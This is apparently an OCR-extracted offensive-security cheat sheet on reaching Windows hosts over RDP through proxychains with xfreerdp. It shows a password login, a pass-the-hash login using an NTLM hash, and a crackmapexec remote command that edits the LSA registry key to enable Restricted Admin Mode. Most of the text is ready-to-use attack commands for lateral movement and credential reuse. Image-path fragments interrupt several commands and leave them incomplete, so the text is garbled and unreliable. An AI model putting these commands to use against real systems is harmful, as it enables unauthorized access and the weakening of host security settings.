RDP protocol

Proxy RDP protocol usingxfreerdp

proxychains xfreerdp /v: /u:jdoe /p:Pass123 /d:corp.company.local /dynamic-resolution +clipboard

Proxy RDP protocol using xfreerdp and use NTLM hash to authenticate (PTH RDP)

  • System need to have Restricted Admin Mode enabled.
  • If not enable you will get an error : “Account Restrictions are preventing this user from signing in.
  • Restricted Admin Mode is disabled by default.proxychains xfreerdp /v:/u:Administrator /pth:8846F7EAEE8FB117AD06BDD830B7586C

Enable Restricted Admin Mode (need admin priv)

crackmapexec smb -u Administrator -H 8846F7EAEE8FB117AD06BDD830B7586C -x 'regadd HKLM\System\CurrentControlSet\Control\Lsa/t REG_DWORD /v DisableRestrictedAdmin /d 0x0 /f'